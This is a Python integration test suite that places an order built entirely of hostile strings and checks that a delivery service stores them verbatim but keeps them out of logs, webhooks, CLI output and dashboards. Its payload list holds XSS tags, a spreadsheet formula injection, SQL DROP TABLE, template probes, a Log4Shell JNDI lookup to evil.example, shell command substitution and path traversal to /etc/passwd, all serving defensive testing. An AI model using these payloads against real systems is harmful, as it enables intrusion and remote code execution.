"""An order whose every text is hostile, on its whole way: kept as it is, and obeyed by nobody."""

from __future__ import annotations

import json
import time
import uuid
from dataclasses import asdict
from typing import TYPE_CHECKING, Any

import httpx
import pytest

from cli import app as cli
from local.logs import render
from tests.integration.workers.test_processing import wait_until
from tests.integration.workers.test_webhooks import received
from tests.shared.examples import order
from tests.shared.people import aws, client_of
from tests.shared.stream_records import body_of, customers_order

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from ops.reach.endpoints import Endpoints
    from tests.integration.conftest import Partner

pytestmark = pytest.mark.integration

LINES = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    '\'; DROP TABLE "Orders"; --',
    "{{7*7}} ${7*7} #{7*7} %s%n",
    "${jndi:ldap://evil.example/a}",
    "$(id) `id` ; id | id && id",
    "../../../etc/passwd\\..\\x",
    "\u202egnp.exe\u2066\u2069\u200b",
    "[red]red[/red] \\x1b[2J \\u001b]0;title",
    "\U0001f355\U0001f469\u200d\U0001f373 \U00020000 e\u0301\u0301\u0301",
    "null",
    "__proto__",
    "n" * 200,
)
"""Texts of one line, which an order may have."""

NOTE = "\n\t".join(LINES[:11])
REFUSED = ("\x1b[2J", "\x9b31m", "a\x00b", "\x07")
"""Texts that no order may have, as they are commands to a terminal or to a program."""

LINE_ENDS = ("\u2028", "\r\nX: y", "\x85")
"""Texts that only notes may have, which keep each line end as a plain one."""

COMMANDS = {*map(chr, range(32)), *map(chr, range(127, 160)), "\u2028", "\u2029", "\u202e"} - {"\n"}


def hostile() -> dict[str, Any]:
    """Make an order of nothing but hostile texts; its customer's name makes it unique."""
    customer = f"'>{uuid.uuid4().hex}=<b>{{{{7*7}}}}#\u202e"
    lines = [
        {"itemId": text[:128], "name": text, "quantity": 1, "unitPrice": 100}
        | {"options": [{"name": text, "price": 1}]}
        for text in LINES
    ]
    lines[0]["note"] = NOTE[:500]
    address = {name: LINES[number] for number, name in enumerate(("line1", "line2", "city"))}
    address |= {"region": LINES[9], "postalCode": "=1+1;<b>\u202e", "country": "US"}
    texts = {"restaurantId": LINES[6], "customerId": customer, "note": NOTE[:500]}
    return order(**texts, items=lines, deliveryAddress=address)


def words(found: str) -> list[str]:
    """Name the texts of the order that stand in something said."""
    escaped = (json.dumps(text)[1:-1] for text in LINES)
    return [text for text in (*LINES, *escaped) if text != "null" and text in found]


@pytest.fixture
def orders(
    stack: Endpoints,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> Callable[..., str]:
    """Run a command of `orders` on the running stack; gives all that it shows, or why it fails."""
    (tmp_path / "endpoints.json").write_text(json.dumps(asdict(stack)))
    monkeypatch.setenv("LOCAL_DIR", str(tmp_path))
    monkeypatch.delenv("LOCAL_PORT", raising=False)

    def run(*arguments: str) -> str:
        capsys.readouterr()
        with pytest.raises(SystemExit) as ended:
            cli.main([*arguments, "--local"])
        said = capsys.readouterr()
        return f"{said.out}{said.err}{ended.value.code or ''}"

    return run


@pytest.fixture(scope="module")
def placed(stack: Endpoints) -> dict[str, Any]:
    """A hostile order, placed as sent, and confirmed, so that its partner hears of it."""
    sent = hostile()
    headers = {"x-api-key": stack.partner_api_key, "Idempotency-Key": uuid.uuid4().hex}
    with httpx.Client(base_url=stack.api_url, headers=headers, timeout=60) as http:
        answer = http.post("/partner/orders", json=sent)
        assert answer.status_code == 201, answer.text
        found: dict[str, Any] = answer.json()
        assert {name: found[name] for name in sent} == sent
        confirmed = http.patch(f"/partner/orders/{found['orderId']}", json={"status": "CONFIRMED"})
        assert confirmed.status_code == 200
    received(stack, found["orderId"], 2)
    return {**sent, "orderId": found["orderId"], "createdAt": found["createdAt"]}


def test_it_is_read_and_listed_as_it_was_sent(
    stack: Endpoints, acme: Partner, placed: dict[str, Any]
) -> None:
    """Its partner and the operators read, letter by letter, what was sent; the table has it so."""
    read = acme.get(placed["orderId"]).json()
    (listed,) = acme.all(customerId=placed["customerId"])
    with client_of(stack, {"Authorization": stack.operator_token}) as operator:
        seen = operator.get(f"/orders/{placed['orderId']}").json()
        whose = {"customerId": f"{stack.partner_id}#{placed['customerId']}"}
        (found,) = operator.get("/orders", params=whose).json()["orders"]
    for one in (read, listed, seen, found):
        assert {name: one[name] for name in placed} == placed
    key = {"orderId": {"S": placed["orderId"]}, "timestamp": {"S": placed["createdAt"]}}
    item = aws(stack, "dynamodb").get_item(TableName=stack.tables["orders"], Key=key)["Item"]
    assert item["note"]["S"] == placed["note"]
    assert [line["M"]["name"]["S"] for line in item["items"]["L"]] == list(LINES)


def test_it_is_changed_as_asked(acme: Partner) -> None:
    """A change to hostile texts is one, too; the texts that were there before are gone."""
    order_id = acme.post(hostile()).json()["orderId"]
    address = {"line1": LINES[7], "line2": None, "region": LINES[4]}
    changed = acme.patch(order_id, {"note": LINES[9], "deliveryAddress": address}).json()
    assert changed["note"] == LINES[9]
    assert changed["deliveryAddress"]["line1"] == LINES[7]
    assert "line2" not in changed["deliveryAddress"]
    assert acme.get(order_id).json() == changed


@pytest.mark.parametrize("text", REFUSED, ids=ascii)
def test_commands_to_terminals_are_refused(acme: Partner, text: str) -> None:
    """An order with a control character in any of its texts is not placed, nor changed to it."""
    for body in (order(note=text), order(customerId=text), order(restaurantId=text)):
        answer = acme.post(body)
        assert answer.status_code == 400
        assert not COMMANDS & set(answer.text)
    order_id = acme.place()["orderId"]
    assert acme.patch(order_id, {"note": text}).status_code == 400
    assert acme.get(order_id).json()["version"] == 1


@pytest.mark.parametrize("text", LINE_ENDS, ids=ascii)
def test_a_line_end_obeys_nobody(acme: Partner, text: str) -> None:
    """A note has it as a plain line end; no text of one line has it at all."""
    for body in (order(customerId=text), order(restaurantId=text)):
        assert acme.post(body).status_code == 400
    noted = acme.place(note=f"a{text}b")["note"]
    assert "\n" in noted
    assert not COMMANDS & set(noted)


@pytest.mark.parametrize("half", ['"\\ud800"', '"\\udc00\\ud83d"', '"a\\udfff"'])
def test_half_a_character_is_refused(acme: Partner, half: str) -> None:
    """Half of a surrogate pair, which JSON permits, is named as what is wrong."""
    answer = acme.post(json.dumps(order(note="HERE")).replace('"HERE"', half))
    assert (answer.status_code, answer.json()["errors"][0]["pointer"]) == (400, "#/note")


def test_the_webhook_tells_none_of_it(stack: Endpoints, placed: dict[str, Any]) -> None:
    """Its partner hears of it, genuinely, and the event holds none of its texts."""
    for webhook in received(stack, placed["orderId"], 2):
        assert webhook["genuine"]
        assert words(json.dumps(webhook, ensure_ascii=False)) == []


def test_no_log_holds_any_of_it(stack: Endpoints, placed: dict[str, Any]) -> None:
    """No function's log has a word of it, nor what a terminal obeys; `make run` shows the same."""
    logs, shown = aws(stack, "logs"), []
    for function, group in stack.log_groups.items():
        pages = logs.get_paginator("filter_log_events").paginate(logGroupName=group)
        for event in (event for page in pages for event in page["events"]):
            message = event["message"].rstrip("\n")
            assert words(message) == []
            assert not (COMMANDS & set(message)) - {"\t"}, message
            shown.append(render(event["timestamp"], function, event["message"]) or "")
    assert not COMMANDS & set("\n".join(shown))
    assert any(placed["orderId"] in line for line in shown)


def test_the_trace_shows_none_of_it(placed: dict[str, Any], orders: Callable[..., str]) -> None:
    """`orders trace` draws its way without its texts, or anything that a terminal obeys."""
    wait_until(lambda: "PATCH" in orders("trace", placed["orderId"]), "the trace does not come")
    for drawn in (orders("trace", placed["orderId"]), orders("trace", placed["orderId"], "--json")):
        assert placed["orderId"] in drawn
        assert words(drawn) == []
        assert not COMMANDS & set(drawn)


def test_the_dashboard_shows_none_of_it(stack: Endpoints, placed: dict[str, Any]) -> None:
    """The dashboard's page is told figures, ids and reasons, and none of the texts."""
    assert placed["orderId"]
    with httpx.Client(base_url=stack.dashboard_url, timeout=60) as http:
        (name, *_) = http.get("dashboards.json").json()
        for widget in http.get("dashboard.json", params={"name": name}).json()["widgets"]:
            asked = {"name": name, "index": widget["index"], "minutes": 60}
            told = http.get("widget.json", params=asked).text
            assert words(told) == []


def test_its_dead_letter_is_shown_harmlessly(
    stack: Endpoints, orders: Callable[..., str], tmp_path: Path
) -> None:
    """A message that the worker gives up is shown with all of it, escape codes as text."""
    sent = {name: value for name, value in hostile().items() if name != "customerId"}
    item = customers_order(sent, "\x1b[2J\x9b31m\x07\u202e")
    item |= {"version": "not one", "note": "\x1b]0;owned\x07\x9b2J"}
    sqs, queues = aws(stack, "sqs"), stack.queues
    sqs.send_message(QueueUrl=queues["order_processing"], MessageBody=body_of(item))
    order_id = item["orderId"]
    wait_until(
        lambda: order_id in orders("dlq", "show", "processing", "--order", order_id),
        "the message does not die",
    )
    try:
        for options in ((), ("--body",), ("--body", "--json")):
            shown = orders("dlq", "show", "processing", "--order", order_id, *options)
            assert not COMMANDS & set(shown)
        whole = orders("dlq", "show", "processing", "--order", order_id, "--body", "--json")
        (letter,) = json.loads(whole)
        assert letter["body"] == body_of(item)
        assert "key or version" in letter["reason"]
    finally:
        to = str(tmp_path / f"{time.time_ns()}.jsonl")
        orders("dlq", "purge", "processing", "--order", order_id, "--to", to, "--yes")
